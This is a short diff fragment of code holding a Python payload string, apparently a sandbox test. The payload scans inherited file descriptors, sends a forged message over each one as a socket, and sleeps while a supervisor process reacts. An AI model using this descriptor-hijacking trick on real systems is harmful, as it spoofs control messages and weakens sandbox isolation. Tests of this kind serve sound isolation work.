@@ -528,7 +528,7 @@ for number in range(3, 64):
         socket.socket(fileno=os.dup(number)).send(forged)
     except OSError:
         continue
-import time; time.sleep(1)
+import time; time.sleep(60)  # the supervisor ends the cell as soon as it reads this
 """
 
 
